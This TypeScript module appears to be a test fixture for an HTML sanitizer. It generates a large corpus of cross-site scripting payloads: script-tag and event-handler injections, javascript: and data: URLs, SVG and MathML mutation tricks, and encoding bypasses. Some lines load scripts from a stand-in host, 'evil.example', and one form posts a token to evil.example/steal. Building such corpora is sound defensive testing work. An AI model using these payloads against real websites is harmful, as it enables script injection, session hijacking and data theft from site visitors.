/** A host that our pages must never call. */
export const foreignHost = 'evil.example';

/** The code that a payload tries to run. */
export const call = 'alert(1)';
/** The address that a payload tries to reach. */
export const foreignUrl = `//${foreignHost}`;

/** Splits a text into lines without indentation. */
export const lines = (text: TemplateStringsArray, ...values: string[]): string[] =>
  String.raw(text, ...values)
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => line !== '');

const selfStarting: ReadonlyArray<readonly [tag: string, events: string]> = [
  ['img src=x', 'onerror onload onloadstart onloadend'],
  ['image src=x', 'onerror'],
  ['svg', 'onload onbegin'],
  ['body', 'onload onpageshow onhashchange onpopstate onresize onscroll onmessage'],
  ['input autofocus', 'onfocus onblur onfocusin'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus onclick'],
  ['a id=x tabindex=1', 'onfocus onmouseenter onpointerover'],
  ['video src=x', 'onerror onloadstart oncanplay'],
  ['audio src=x', 'onerror onloadstart'],
  ['video><source', 'onerror'],
  ['details open', 'ontoggle onbeforetoggle'],
  ['dialog open', 'onclose oncancel'],
  ['marquee', 'onstart onfinish onbounce'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['style', 'onload onerror'],
  ['link rel=stylesheet href=x', 'onerror onload'],
  ['script src=x', 'onerror'],
  ['div contenteditable autofocus', 'onfocus oninput onbeforeinput'],
  ['div style=animation-name:x', 'onanimationstart onanimationend'],
  ['div style=transition:1s', 'ontransitionend ontransitionrun'],
  ['table background=x', 'onload'],
  ['frameset', 'onload'],
  ['keygen autofocus', 'onfocus'],
  ['custom-element', 'onclick onwheel oncopy onpaste ondrag oncontextmenu onauxclick'],
];

const handlers = selfStarting.flatMap(([tag, events]) =>
  events.split(' ').map((event) => `<${tag} ${event}=${call}>`),
);

const scripts = lines`
  <script>${call}</script>
  <SCRIPT>${call}</SCRIPT>
  <ScRiPt >${call}</sCrIpT >
  <script src=${foreignUrl}/a.js></script>
  <script src="https:${foreignUrl}/b.js" defer></script>
  <script/src=data:,${call}></script>
  <script type=module>import '${foreignUrl}/m.js'</script>
  <script type="text/javascript"/**/>${call}</script>
  <<script>${call}//<</script>
  <scr<script>ipt>${call}</scr</script>ipt>
  <script>${call}<!--
  <!--><script>${call}</script>
  <script>/*<img src=x onerror=*/${call}//></script>
  </script><script>${call}</script>
  </title><script>${call}</script>
  </textarea><script>${call}</script>
  </style><script>${call}</script>
  </noscript><script>${call}</script>
  <noscript><p title="</noscript><img src=x onerror=${call}>">
  <template><script>${call}</script></template>
  <xmp><script>${call}</script></xmp>
  <plaintext><script>${call}</script>
  <listing>&lt;img onerror=${call} src=x&gt;</listing>
  <script>Object.prototype.x='<img src=x onerror=${call}>'</script>
`;

const addresses = lines`
  <a href=javascript:${call}>x</a>
  <a href="JaVaScRiPt:${call}">x</a>
  <a href="java&#9;script:${call}">x</a>
  <a href="java&#10;script:${call}">x</a>
  <a href="&#106;avascript:${call}">x</a>
  <a href="&#x6A;avascript:${call}">x</a>
  <a href=" &#14; javascript:${call}">x</a>
  <a href="javascript&colon;${call}">x</a>
  <a href="vbscript:msgbox(1)">x</a>
  <a href="data:text/html,<script>${call}</script>">x</a>
  <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
  <a href="${foreignUrl}/" target=_blank>x</a>
  javascript:${call}
  javascript://%0a${call}
  javascript:/*--></title></style></textarea></script><svg onload=${call}>
  data:text/html,<script>${call}</script>
  blob:${foreignUrl}/x
  <form action=javascript:${call}><button>x</button></form>
  <form><button formaction=javascript:${call}>x</button></form>
  <form action=${foreignUrl}/steal><input name=token></form>
  <isindex type=image src=1 onerror=${call}>
  <iframe src=javascript:${call}></iframe>
  <iframe srcdoc="<script>parent.${call}</script>"></iframe>
  <iframe srcdoc="&lt;img src=x onerror=parent.${call}&gt;"></iframe>
  <iframe src=${foreignUrl}/frame></iframe>
  <object data=javascript:${call}></object>
  <object data="data:text/html,<script>${call}</script>"></object>
  <embed src=javascript:${call}>
  <embed src=${foreignUrl}/x.swf>
  <base href=${foreignUrl}/>
  <base target=_blank href=javascript:${call}>
  <meta http-equiv=refresh content="0;url=javascript:${call}">
  <meta http-equiv=refresh content="0;url=${foreignUrl}/">
  <meta http-equiv=Content-Security-Policy content="default-src *">
  <link rel=import href=${foreignUrl}/i>
  <link rel=prefetch href=${foreignUrl}/p>
  <link rel=preconnect href=${foreignUrl}>
  <img src=${foreignUrl}/pixel.gif>
  <img srcset="${foreignUrl}/a 1x, ${foreignUrl}/b 2x">
  <picture><source srcset=${foreignUrl}/s><img src=x></picture>
  <img longdesc=javascript:${call} src=${foreignUrl}/l>
  <video poster=${foreignUrl}/poster></video>
  <audio src=${foreignUrl}/a.mp3 autoplay></audio>
  <track src=${foreignUrl}/t>
  <input type=image src=${foreignUrl}/i formaction=javascript:${call}>
  <body background=${foreignUrl}/bg>
  <table background=${foreignUrl}/bg2><td>
  <a ping=${foreignUrl}/ping href=#>x</a>
  <area href=javascript:${call}><map>
  <xml src=${foreignUrl}/x></xml>
  <portal src=${foreignUrl}/portal></portal>
  [x](javascript:${call})
  ![x](${foreignUrl}/md.png)
  [x]: javascript:${call}
`;

const drawings = lines`
  <svg><script>${call}</script></svg>
  <svg><script href=${foreignUrl}/s.js /></svg>
  <svg><script xlink:href=data:,${call} /></svg>
  <svg><a xlink:href=javascript:${call}><text y=20>x</text></a></svg>
  <svg><a href=javascript:${call}><rect width=99 height=99 /></a></svg>
  <svg><animate onbegin=${call} attributeName=x dur=1s>
  <svg><animate xlink:href=#x attributeName=href values=javascript:${call} /><a id=x><text y=20>x</text></a>
  <svg><set attributeName=onmouseover to=${call}>
  <svg><animateTransform onbegin=${call}>
  <svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x">
  <svg><use xlink:href=${foreignUrl}/sprite.svg#x>
  <svg><image href=${foreignUrl}/i.svg>
  <svg><foreignObject><iframe src=javascript:${call}></foreignObject></svg>
  <svg><style><img src=x onerror=${call}></style>
  <svg><title><style><img src=x onerror=${call}></style></title></svg>
  <svg><desc><![CDATA[</desc><script>${call}</script>]]></svg>
  <svg><discard onbegin=${call}>
  <svg><handler type="text/javascript" ev:event=load>${call}</handler></svg>
  <svg><feImage href=${foreignUrl}/fe />
  <math href=javascript:${call}>x</math>
  <math><maction actiontype=statusline xlink:href=javascript:${call}>x</maction></math>
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">
  <math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>
  <math><mi//xlink:href="data:x,<script>${call}</script>">
  <form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>
  <svg></p><style><a id="</style><img src=1 onerror=${call}>">
  <?xml-stylesheet href="javascript:${call}"?>
  <!DOCTYPE x [<!ENTITY e SYSTEM "${foreignUrl}/dtd">]><x>&e;</x>
  <![CDATA[<script>${call}</script>]]>
`;

/** Elements that run or load something: scripts, handlers, addresses and drawings. */
export const markupPayloads: readonly string[] = [...scripts, ...handlers, ...addresses, ...drawings];
